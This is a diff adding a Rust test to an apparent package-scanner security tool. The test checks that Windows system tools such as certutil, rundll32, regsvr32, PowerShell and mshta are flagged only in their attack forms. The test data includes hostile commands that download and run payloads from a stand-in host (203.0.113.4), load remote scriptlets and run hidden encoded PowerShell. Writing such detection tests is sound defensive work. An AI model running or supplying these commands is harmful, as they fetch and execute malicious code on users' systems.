@@ -688,3 +688,35 @@ fn a_programs_entry_runs_when_someone_runs_it() {
     let f = report.findings.iter().find(|f| f.rule == "exfiltration").expect("exfiltration");
     assert!(f.because[0].contains("runs the package as a program"), "{f:#?}");
 }
+
+/// The system's own tools count as hostile in the forms attacks use them,
+/// not by name: a checksum with certutil, a printer dialog through
+/// rundll32, a local PowerShell script with the policy bypassed are how
+/// tools work. Written for the test.
+#[test]
+fn system_tools_are_hostile_in_their_attack_forms_only() {
+    let hostile = |cmd: &str| {
+        let src = format!("import subprocess\nsubprocess.call({cmd:?}, shell=True)\n");
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/t.py", bytes: src.as_bytes() }]);
+        report.findings.iter().any(|f| f.rule == "process-hostile")
+    };
+    for ordinary in [
+        "certutil -hashfile setup.exe SHA256",
+        "rundll32 printui.dll,PrintUIEntry /il",
+        "regsvr32 /s RevitAddin.dll",
+        "powershell -ExecutionPolicy Bypass -File .\\export.ps1",
+        "nohup ./server &",
+    ] {
+        assert!(!hostile(ordinary), "{ordinary}");
+    }
+    for attack in [
+        "certutil -urlcache -split -f http://203.0.113.4/a.exe a.exe",
+        "certutil -decode blob.txt a.exe",
+        "regsvr32 /s /n /u /i:http://203.0.113.4/x.sct scrobj.dll",
+        "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \"",
+        "powershell -w hidden -enc SQBFAFgA",
+        "mshta http://203.0.113.4/x.hta",
+    ] {
+        assert!(hostile(attack), "{attack}");
+    }
+}
